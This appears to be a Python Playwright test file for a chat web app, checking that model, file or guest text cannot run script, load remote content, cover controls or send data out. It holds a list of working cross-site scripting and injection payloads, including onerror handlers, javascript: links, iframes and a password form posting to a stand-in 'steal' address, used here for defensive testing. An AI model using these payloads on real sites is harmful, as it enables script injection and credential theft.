"""Whatever a model, a file or a guest writes: it runs nothing, covers nothing and loads nothing."""

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from engine.chats import Chats
from tests.app_process import RunningApp, running_app
from tests.browser.chat_page import ChatPage
from tests.browser.visits import PHONE, visit
from tests.loopback_server import Reply, Server
from tests.ui.strangers import shared_app

RUN = "window.owned='NAME';document.title='owned'"
# OUT stands for the address of a server that nothing may ever ask, NAME for the payload's name.
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "script from outside": '<script src="OUT/x.js"></script>',
    "image handler": f'<img src=x onerror="{RUN}">',
    "svg handler": f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    "svg in mathml": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    "details handler": f'<details open ontoggle="{RUN}">x</details>',
    "javascript link": f'<a href="javascript:{RUN}" id="evil-link">here</a>',
    "javascript markdown": f"[here](javascript:{RUN.replace(';', '%3B')})",
    "data link": "[here](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "frame": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe><iframe src="OUT/f">',
    "object": '<object data="OUT/o"></object><embed src="OUT/e">',
    "overlay": '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Signed out'
               "</div>",
    "overlay by style": "<style>.evil{position:fixed;inset:0;z-index:9999;background:red}"
                        'body{display:none!important}</style><div class="evil">x</div>',
    "overlay by size": '<div style="width:9999px;height:9999px;margin:-2000px;background:red">x'
                       "</div>",
    "password form": '<form action="OUT/steal" method="post"><input type="password" name="p"'
                     ' value="secret"><button id="evil-send">Sign in</button></form>',
    "form button": '<button formaction="OUT/steal" form="x">x</button>',
    "remote image": '<img src="OUT/pixel.png"> ![pixel](OUT/pixel.png)',
    "remote picture": '<picture><source srcset="OUT/p.webp"><img srcset="OUT/p.png 2x"></picture>',
    "remote video": '<video src="OUT/v.mp4" poster="OUT/v.png" autoplay></video>'
                    '<audio src="OUT/a.mp3" autoplay></audio>',
    "remote style": '<link rel="stylesheet" href="OUT/s.css"><style>@import "OUT/i.css";</style>',
    "remote background": '<div style="background:url(OUT/b.png)">x</div>',
    "remote input": '<input type="image" src="OUT/i.png">',
    "refresh": '<meta http-equiv="refresh" content="0;url=OUT/r">',
    "base": '<base href="OUT/"><img src="relative.png">',
    "prefetch": '<link rel="prefetch" href="OUT/p"><link rel="dns-prefetch" href="OUT">',
    "diagram": "```mermaid\ngraph TD; A[\"<img src='OUT/m.png'>\"]-->B; "
               f'click A "javascript:{RUN}"\n```',
    "diagram with style": '```mermaid\n%%{init: {"themeCSS": "@import \'OUT/t.css\';'
                          " .x{background:url(OUT/t.png)}\"}}%%\ngraph TD; A-->B\n```",
    "formula": f"\\(\\href{{javascript:{RUN}}}{{x}}\\) $$\\includegraphics{{OUT/k.png}}$$"
               " $$\\htmlStyle{position:fixed;inset:0;background:red}{x}$$",
}  # fmt: skip


@pytest.fixture(scope="module")
def outside() -> Iterator[Server]:
    """A server that answers everything and remembers who asked."""
    server = Server(lambda _: Reply(200, b"x"), lambda _: None, [])
    yield server
    server.stop()


def payload(name: str, outside: Server) -> str:
    mark = name.replace(" ", "-")
    return PAYLOADS[name].replace("OUT", f"{outside.url}/{mark}").replace("NAME", mark)


@pytest.fixture(scope="module")
def app(outside: Server, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    """An app in which a model has said every payload, thought it, and failed with it."""
    folder = tmp_path_factory.mktemp("payloads")
    (folder / "data").mkdir()
    chats = Chats(folder / "data" / "chats.sqlite3")
    at, parent = chats.create("pomona/guide", "Everything bad"), None
    for name in PAYLOADS:
        text = payload(name, outside)
        at = chats.add(at.chat_id, at.revision, parent, "user", f"{name}\n\n{text}")
        chats.create("pomona/guide", f"{name} {text}")
        at = chats.add(
            at.chat_id, at.revision, at.message_id, "assistant", f"Well.\n\n{text}",
            model_id=f"evil/{text}", reasoning=f"Hm. {text}",
            details={"error": text, "reason": "stop"},
        )  # fmt: skip
        parent = at.message_id
    chats.close()
    with running_app(folder) as app:
        yield app


def assert_harmless(page: Page, url: str, outside: Server) -> None:
    """Nothing ran, nothing left, and everything of ours can still be pressed."""
    page.wait_for_timeout(800)  # time for what should not happen
    assert page.evaluate("window.owned") is None
    assert page.evaluate("document.title") == "Pomona" and page.url.rstrip("/") == url
    assert [(request.method, request.path) for request in outside.requests] == []
    for place in ("#message textarea", "#new-chat", "#model input", "#message .submit-button"):
        covered_by = page.evaluate(
            """(place) => {
              const box = document.querySelector(place);
              const {left, top, width, height} = box.getBoundingClientRect();
              const there = document.elementFromPoint(left + width / 2, top + height / 2);
              return box.contains(there) || there.contains(box) ? '' : there.outerHTML;
            }""",
            place,
        )
        assert covered_by == "", place


def test_what_a_model_says_thinks_and_fails_with_is_harmless(
    page: Page, app: RunningApp, outside: Server
) -> None:
    page.locator("#chat-list [data-act=open]").filter(has_text="Everything bad").click()
    expect(page.locator("#log")).to_contain_text(list(PAYLOADS)[0])
    expect(page.get_by_test_id("user")).to_have_count(len(PAYLOADS))
    for place in ("top", "bottom"):
        page.evaluate(
            f"document.querySelector('#log .bubble-wrap, #log [role=log]').scrollTo(0,"
            f" {'0' if place == 'top' else '1e6'})"
        )
        assert_harmless(page, app.url, outside)
    page.evaluate("document.querySelectorAll('#log details').forEach(one => one.open = true)")
    page.evaluate("document.querySelectorAll('#log .thought-group button').forEach(b => b.click())")
    assert_harmless(page, app.url, outside)
    page.evaluate("document.querySelectorAll('#evil-send, #evil-link').forEach(b => b.click())")
    assert_harmless(page, app.url, outside)


def test_the_pages_own_policy_stops_what_a_payload_would_load(
    page: Page, app: RunningApp, outside: Server
) -> None:
    """Were markup to get through, the browser itself would refuse to load and to send."""
    page.evaluate(
        """(out) => {
          document.body.insertAdjacentHTML('beforeend', `<img src="${out}/i.png">
            <iframe src="${out}/f"></iframe><video src="${out}/v"></video>
            <link rel="stylesheet" href="${out}/s.css">
            <form id="evil" action="${out}/steal" method="post"><input name="p"></form>`);
          document.getElementById('evil').submit();
          fetch(`${out}/fetch`).catch(() => 0);
          navigator.sendBeacon(`${out}/beacon`, 'x');
          const script = document.createElement('script');
          script.src = `${out}/x.js`;
          document.body.append(script);
        }""",
        outside.url,
    )
    assert_harmless(page, app.url, outside)


def test_a_guests_own_words_are_harmless_too(
    browser: Browser, outside: Server, tmp_path: Path
) -> None:
    with (
        shared_app(tmp_path) as app,
        visit(browser, app.url, "#message textarea", viewport=PHONE) as page,
    ):
        chat = ChatPage(page)
        everything = "\n\n".join(payload(name, outside) for name in PAYLOADS)
        for count, at in enumerate(range(0, len(everything), 3_900), start=1):
            chat.ask(everything[at : at + 3_900])
            chat.wait_for_answers(count)
        assert_harmless(page, app.url, outside)
